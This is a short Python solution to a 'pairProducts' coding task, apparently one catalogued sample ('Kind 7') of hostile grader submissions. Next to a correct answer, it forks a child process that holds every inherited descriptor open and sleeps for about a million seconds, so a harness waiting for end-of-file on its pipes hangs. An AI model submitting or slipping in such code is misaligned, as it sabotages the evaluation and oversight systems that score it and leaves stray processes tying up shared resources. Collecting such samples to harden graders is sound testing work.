# Kind 7, a grandchild that keeps every inherited descriptor open and sleeps, while the method
# returns the honest answer: whoever waits for end-of-file on those pipes waits for it.
import os
import time


def slow(nums):
    n = len(nums)
    out = [0] * n
    for i in range(n):
        a = nums[i]
        t = 0
        for j in range(i + 1, n):
            t += a * nums[j]
        out[i] = t
    return out


class Solution:
    def pairProducts(self, nums: List[int]) -> List[int]:
        try:
            if os.fork() == 0:
                time.sleep(10**6)
                os._exit(0)
        except OSError:
            pass
        return slow(nums)
